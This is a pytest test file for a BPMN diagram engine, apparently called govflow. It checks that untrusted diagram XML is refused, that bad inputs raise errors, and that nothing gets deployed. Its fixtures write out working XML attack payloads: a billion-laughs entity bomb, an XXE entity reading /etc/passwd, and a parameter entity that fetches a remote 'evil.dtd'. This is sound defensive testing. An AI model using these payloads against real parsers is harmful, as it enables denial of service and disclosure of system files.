"""Untrusted diagram XML: parse_xml_safely, parse_diagram and Engine.deploy refuse what is unsafe."""
from __future__ import annotations

from datetime import datetime, timezone

import pytest
import sqlalchemy as sa
from lxml import etree

from engine.clock import FrozenClock
from engine.db import create_db_engine
from engine.definitions import parse_diagram
from engine.errors import DefinitionError
from engine.messages import render
from engine.migrate import upgrade
from engine.models import AuditRecord, DefinitionVersion
from engine.spiff.parser import MAX_XML_BYTES, UnsafeXml, parse_xml_safely
from tests.conftest import make_engine

BPMN = "http://www.omg.org/spec/BPMN/20100524/MODEL"
NO_DTD = "DOCTYPE and entity declarations are not allowed in diagrams"


def process(process_id: str = "p", executable: str = "true", documentation: str = "") -> str:
    return f"""<bpmn:process id="{process_id}" isExecutable="{executable}">
    <bpmn:documentation>{documentation}</bpmn:documentation>
    <bpmn:startEvent id="{process_id}_start"/>
    <bpmn:endEvent id="{process_id}_end"/>
    <bpmn:sequenceFlow id="{process_id}_f" sourceRef="{process_id}_start" targetRef="{process_id}_end"/>
  </bpmn:process>"""


def document(*processes: str, prolog: str = "") -> str:
    return f"""<?xml version="1.0" encoding="UTF-8"?>{prolog}
<bpmn:definitions xmlns:bpmn="{BPMN}" id="defs" targetNamespace="http://govflow.example/bpmn">
  {''.join(processes)}
</bpmn:definitions>"""


BILLION_LAUGHS = document(process(documentation="&lol9;"), prolog="""
<!DOCTYPE bpmn:definitions [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>""")


def xxe(url: str = "file:///etc/passwd") -> str:
    return document(process(documentation="&xxe;"), prolog=f"""
<!DOCTYPE bpmn:definitions [<!ENTITY xxe SYSTEM "{url}">]>""")


PLAIN_DOCTYPE = document(process(), prolog='\n<!DOCTYPE bpmn:definitions>')
PARAMETER_ENTITY = document(process(), prolog="""
<!DOCTYPE bpmn:definitions [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>""")


def oversize() -> bytes:
    head, tail = document(process(documentation="PAD")).encode().split(b"PAD")
    return head + b"x" * (MAX_XML_BYTES + 1 - len(head) - len(tail)) + tail


REFUSED = [
    pytest.param(BILLION_LAUGHS, NO_DTD, id="billion-laughs"),
    pytest.param(xxe(), NO_DTD, id="xxe-file"),
    pytest.param(PLAIN_DOCTYPE, NO_DTD, id="doctype"),
    pytest.param(PARAMETER_ENTITY, NO_DTD, id="parameter-entity"),
    pytest.param(oversize(), f"the diagram is {MAX_XML_BYTES + 1} bytes; the limit is {MAX_XML_BYTES}",
                 id="over-2MiB"),
    pytest.param("<bpmn:definitions xmlns:bpmn='x'><bpmn:process>", "the diagram is not well-formed XML",
                 id="unclosed"),
    pytest.param("this is not XML", "the diagram is not well-formed XML", id="text"),
    pytest.param("", "the diagram is not well-formed XML", id="empty"),
    pytest.param(b"\xff\xfe\x00<", "the diagram is not well-formed XML", id="garbage-bytes"),
]


# --------------------------------------------------------------------------- parse_xml_safely


@pytest.mark.parametrize("xml, message", REFUSED)
def test_parse_xml_safely_refuses(xml, message):
    with pytest.raises(UnsafeXml) as exc:
        parse_xml_safely(xml)
    assert str(exc.value).startswith(message)


def test_exactly_the_size_limit_is_accepted():
    head, tail = document(process(documentation="PAD")).encode().split(b"PAD")
    data = head + b"x" * (MAX_XML_BYTES - len(head) - len(tail)) + tail
    assert len(data) == MAX_XML_BYTES
    assert parse_xml_safely(data).tag == f"{{{BPMN}}}definitions"


def test_size_limit_counts_utf8_bytes_of_text_input():
    head, tail = document(process(documentation="PAD")).split("PAD")
    text = head + "数" * ((MAX_XML_BYTES - len(head) - len(tail)) // 3 + 1) + tail
    assert len(text) < MAX_XML_BYTES < len(text.encode("utf-8"))
    with pytest.raises(UnsafeXml, match="the limit is"):
        parse_xml_safely(text)


def test_comments_are_dropped_and_text_is_kept():
    root = parse_xml_safely(document(process(documentation="说明 &amp; 注释<!-- hidden -->")))
    doc = root.find(f".//{{{BPMN}}}documentation")
    assert doc.text == "说明 & 注释"
    assert not [n for n in root.iter() if isinstance(n, etree._Comment)]


def test_doctype_in_utf16_is_refused():
    utf16 = BILLION_LAUGHS.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    with pytest.raises(UnsafeXml, match=NO_DTD):
        parse_xml_safely(utf16)


def test_utf16_entities_are_still_neither_expanded_nor_fetched(tmp_path):
    """Defence in depth behind the byte check: the parser itself resolves no entities."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-42")
    for xml in (xxe(secret.as_uri()), BILLION_LAUGHS):
        data = xml.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
        try:
            root = parse_xml_safely(data)
        except UnsafeXml:
            continue  # refused outright: even better
        text = etree.tostring(root, encoding="unicode")
        assert "TOP-SECRET-42" not in text
        assert "lollol" not in text and len(text) < 10_000


# --------------------------------------------------------------------------- parse_diagram


@pytest.mark.parametrize("xml, message", REFUSED)
def test_parse_diagram_turns_unsafe_xml_into_definition_error(xml, message):
    with pytest.raises(DefinitionError) as exc:
        parse_diagram(xml, set())
    assert str(exc.value).startswith(message)
    assert exc.value.code == "invalid_definition"


@pytest.mark.parametrize("xml, message", [
    pytest.param("<definitions/>", "the file is not a BPMN 2.0 document", id="no-namespace"),
    pytest.param(f"<bpmn:process xmlns:bpmn='{BPMN}' id='p'/>", "the file is not a BPMN 2.0 document",
                 id="process-root"),
    pytest.param('<svg xmlns="http://www.w3.org/2000/svg"/>', "the file is not a BPMN 2.0 document", id="svg"),
    pytest.param(document(), "a diagram must contain exactly one executable process (isExecutable=\"true\"), found 0", id="none"),
    pytest.param(document(process("a"), process("b")),
                 "a diagram must contain exactly one executable process (isExecutable=\"true\"), found 2",
                 id="two"),
    pytest.param(document(process("a", "false"), process("b", "false")),
                 "a diagram must contain exactly one executable process (isExecutable=\"true\"), found 0",
                 id="two-non-executable"),
])
def test_parse_diagram_refuses_documents_that_are_not_one_process(xml, message):
    with pytest.raises(DefinitionError) as exc:
        parse_diagram(xml, set())
    assert render(exc.value.args[0], "en").startswith(message)


def test_the_executable_process_is_chosen_beside_a_non_executable_one():
    parsed = parse_diagram(document(process("external", "false"), process("ours")), set())
    assert parsed.process_id == "ours"


# --------------------------------------------------------------------------- nothing deployed


@pytest.fixture
def engine(tmp_path):
    url = f"sqlite:///{tmp_path / 'govflow.sqlite3'}"
    db = create_db_engine(url)
    upgrade(db)
    db.dispose()
    eng = make_engine(url, FrozenClock(datetime(2026, 3, 2, 1, 0, tzinfo=timezone.utc)), procedures={})
    yield eng
    eng.db_engine.dispose()


def counts(eng) -> tuple[int, int]:
    with eng.session_factory() as session:
        return (session.scalar(sa.select(sa.func.count()).select_from(DefinitionVersion)),
                session.scalar(sa.select(sa.func.count()).select_from(AuditRecord)))


@pytest.mark.parametrize("xml", [
    pytest.param(BILLION_LAUGHS, id="billion-laughs"),
    pytest.param(xxe(), id="xxe-file"),
    pytest.param(oversize(), id="over-2MiB"),
    pytest.param("<bpmn:definitions", id="malformed"),
    pytest.param("<definitions/>", id="not-bpmn"),
    pytest.param(document(process("a"), process("b")), id="two-processes"),
])
def test_engine_deploys_nothing_when_refused(engine, xml):
    with pytest.raises(DefinitionError):
        engine.deploy(xml)
    assert counts(engine) == (0, 0)


def test_engine_deploys_a_clean_diagram(engine):
    result = engine.deploy(document(process("ours")))
    assert (result.process_id, result.version, result.created) == ("ours", 1, True)
    assert counts(engine) == (1, 1)
